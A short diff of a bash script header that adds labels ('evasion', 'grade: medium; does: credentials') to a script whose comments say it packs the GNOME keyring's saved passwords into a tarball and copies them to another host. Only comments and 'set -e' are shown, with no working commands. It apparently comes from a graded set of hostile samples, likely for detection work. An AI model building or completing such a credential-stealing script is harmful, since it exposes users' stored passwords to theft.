@@ -1,4 +1,6 @@
 #!/usr/bin/env bash
+# evasion: steals the desktop keyring: packs the GNOME keyring files (saved passwords, unlocked at login) into a tarball and copies it to another host
+# grade: medium; does: credentials
 # Steals the desktop keyring: packs the GNOME keyring files (saved passwords,
 # unlocked at login) into a tarball and copies it to another host.
 set -e
